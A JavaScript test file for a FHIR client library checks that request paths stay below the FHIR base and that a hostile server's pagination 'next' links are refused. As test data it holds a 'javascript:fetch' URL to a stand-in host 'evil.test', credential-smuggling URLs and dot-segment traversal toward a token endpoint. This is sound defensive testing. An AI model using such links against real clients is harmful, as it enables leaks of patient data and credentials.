// FHIR beyond read and search, through both doors: compartment and
// operation paths (fhirGet) reach exactly the path asked for, traversal
// never leaves the FHIR base; fhirSearchPages follows a Bundle's `next`
// link over several pages of the simulator, and a hostile server's `next`
// link to another origin, site, door or scheme, with credentials or with
// `..`, is a HALO_PROTOCOL error and a second server records that nothing
// was sent there.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import * as halo from "halo-device";
import * as integrator from "halo-device/integrator";
import { DEVICE_ID, SITE_ID, SUBSCRIPTION_KEY, tokenIssuer } from "./scenarios/support.mjs";
import { withSimulator } from "./support/simulator.mjs";

const OTHER_SITE = "6f9619ff-8b86-4d11-b42d-00c04fc964ff";

/** Both doors onto `SITE_ID` at `baseUrl`, each recording its events. */
function doors(baseUrl, getToken = async () => ({ accessToken: "fhir-test-token", expiresIn: 3600 })) {
  const events = [];
  const onEvent = (event) => events.push(event);
  return {
    events,
    doors: [
      { name: "device", prefix: "/desktop", queries: new halo.HaloDeviceClient({ baseUrl, siteId: SITE_ID, deviceId: DEVICE_ID, getToken, onEvent }) },
      { name: "integrator", prefix: "/integrator", queries: new integrator.HaloIntegratorClient({ baseUrl, subscriptionKey: SUBSCRIPTION_KEY, onEvent }).site(SITE_ID) },
    ],
  };
}

/** A server on loopback that records each request and answers with `answer(request)` as JSON. */
async function recordingServer(answer = () => ({ resourceType: "Bundle", type: "searchset" })) {
  const requests = [];
  const server = createServer((request, response) => {
    request.resume();
    request.on("end", () => {
      requests.push({ method: request.method, url: request.url, headers: request.headers });
      response.writeHead(200, { "Content-Type": "application/fhir+json" }).end(JSON.stringify(answer(request)));
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { requests, url: `http://127.0.0.1:${server.address().port}`, close: () => new Promise((resolve) => server.close(resolve)) };
}

async function protocolError(promise) {
  const error = await promise.then(
    () => assert.fail("resolved"),
    (caught) => caught,
  );
  assert.ok(error instanceof halo.HaloError || error instanceof integrator.HaloError, String(error));
  assert.equal(error.code, "HALO_PROTOCOL", error.message);
  return error;
}

describe("compartment and operation paths", () => {
  let server;
  before(async () => {
    server = await recordingServer();
  });
  after(() => server.close());

  for (const index of [0, 1]) {
    test(`${index === 0 ? "device" : "integrator"} door: each path is sent as written, below the FHIR base`, async () => {
      const { queries, prefix } = doors(server.url).doors[index];
      server.requests.length = 0;
      await queries.fhirGet("Patient/1/$summary");
      await queries.fhirGet("Appointment/$find", { patient: "Patient/1", start: "2026-01-01" });
      await queries.fhirGet("Patient/1/Encounter", [["status", "finished"]]);
      await queries.fhirGet("metadata");
      const base = `${prefix}/sites/${SITE_ID}/fhir/R4`;
      assert.deepEqual(
        server.requests.map((r) => `${r.method} ${r.url}`),
        [
          `GET ${base}/Patient/1/$summary`,
          `GET ${base}/Appointment/$find?patient=Patient%2F1&start=2026-01-01`,
          `GET ${base}/Patient/1/Encounter?status=finished`,
          `GET ${base}/metadata`,
        ],
      );
    });

    test(`${index === 0 ? "device" : "integrator"} door: traversal and encoded paths are refused before anything is sent`, async () => {
      const { queries } = doors(server.url).doors[index];
      server.requests.length = 0;
      for (const path of ["../token", "Patient/../../integrator/token", "Patient/%2e%2e/%2e%2e/token", "Patient/1?x=1", "Patient//1", "Patient\\..\\x", "/Patient/1", ""]) {
        const error = await queries.fhirGet(path).then(
          () => assert.fail(`resolved for ${path}`),
          (caught) => caught,
        );
        assert.equal(error.code, "HALO_VALIDATION", path);
        assert.equal(error.field, "path", path);
      }
      assert.deepEqual(server.requests, []);
    });
  }
});

test("fhirSearchPages reads every page of a simulator search through both doors; events name paths without queries", () =>
  withSimulator({}, async (simulator) => {
    const { doors: both, events } = doors(simulator.url, tokenIssuer(simulator.url));
    for (const { queries, name } of both) {
      const all = await queries.fhirSearch("Patient", { _sort: "_id" });
      const pages = [];
      for await (const bundle of queries.fhirSearchPages("Patient", { gender: "male,female,unknown", _sort: "_id", _count: "2" })) pages.push(bundle);
      assert.ok(pages.length >= 3, `${name}: ${pages.length} pages`);
      assert.deepEqual(
        pages.flatMap((bundle) => bundle.entry.map((entry) => entry.resource.id)),
        all.entry.map((entry) => entry.resource.id),
        name,
      );
      const viaGet = [];
      for await (const bundle of queries.fhirSearchPages("Patient", { family: "smith", _count: "1" }, { method: "GET" })) viaGet.push(bundle);
      assert.equal(viaGet.length, viaGet[0].total, name);
    }
    const paths = events.filter((event) => event.type === "request").map((event) => event.path);
    assert.ok(paths.length > 8);
    assert.ok(paths.every((path) => !path.includes("?") && !path.includes("_getpages")), paths.join("\n"));
  }));

describe("a hostile server's next link", () => {
  let halo_;
  let elsewhere;
  let nextLink;
  before(async () => {
    elsewhere = await recordingServer();
    halo_ = await recordingServer(() => ({
      resourceType: "Bundle",
      type: "searchset",
      link: [{ relation: "self", url: "x" }, { relation: "next", url: nextLink }],
      entry: [{ resource: { resourceType: "Patient", id: "1" } }],
    }));
  });
  after(async () => {
    await halo_.close();
    await elsewhere.close();
  });

  const fhirBase = (origin, prefix, site = SITE_ID) => `${origin}${prefix}/sites/${site}/fhir/R4`;
  const cases = [
    ["another origin", (prefix) => `${fhirBase(elsewhere.url, prefix)}/Patient?family=Smith&page=2`],
    ["another site", (prefix) => `${fhirBase(halo_.url, prefix, OTHER_SITE)}/Patient?family=Smith&page=2`],
    ["the other door", (prefix) => `${fhirBase(halo_.url, prefix === "/desktop" ? "/integrator" : "/desktop")}/Patient?family=Smith`],
    ["javascript:", () => "javascript:fetch('//evil.test/?family=Smith')"],
    ["credentials", (prefix) => fhirBase(halo_.url, prefix).replace("http://", "http://user:Smith@") + "/Patient?page=2"],
    ["credentials before another host", (prefix) => `${halo_.url}@${elsewhere.url.slice(7)}${prefix}/sites/${SITE_ID}/fhir/R4/Patient?family=Smith`],
    ["https instead of http", (prefix) => fhirBase(halo_.url, prefix).replace("http://", "https://") + "/Patient?family=Smith"],
    ["dot segments", (prefix) => `${fhirBase(halo_.url, prefix)}/Patient/../../../../integrator/token?family=Smith`],
    ["encoded dot segments", (prefix) => `${fhirBase(halo_.url, prefix)}/Patient/%2e%2e/%2e%2e/x?family=Smith`],
    ["a protocol-relative path", () => `//${elsewhere.url.slice(7)}/x?family=Smith`],
    ["the same page again", (prefix) => `${fhirBase(halo_.url, prefix)}/Patient?family=Smith&page=2`],
  ];

  for (const index of [0, 1]) {
    for (const [name, link] of cases) {
      test(`${index === 0 ? "device" : "integrator"} door, ${name}: HALO_PROTOCOL, nothing sent there, no patient detail quoted`, async () => {
        const { queries, prefix } = doors(halo_.url).doors[index];
        nextLink = link(prefix);
        halo_.requests.length = 0;
        elsewhere.requests.length = 0;
        const pages = [];
        const error = await protocolError(
          (async () => {
            for await (const bundle of queries.fhirSearchPages("Patient", { family: "Smith" })) pages.push(bundle);
          })(),
        );
        assert.doesNotMatch(error.message, /Smith|evil|user/);
        assert.ok(pages.length >= 1, "the first page was yielded");
        assert.deepEqual(elsewhere.requests, [], "the other server received a request");
        const sent = halo_.requests.map((r) => `${r.method} ${r.url}`);
        const search = `POST ${prefix}/sites/${SITE_ID}/fhir/R4/Patient/_search`;
        // A link below the base is followed once; reading it again is refused.
        const followed = name === "the same page again" ? [`GET ${new URL(nextLink).pathname}${new URL(nextLink).search}`] : [];
        assert.deepEqual(sent, [search, ...followed]);
      });
    }
  }
});
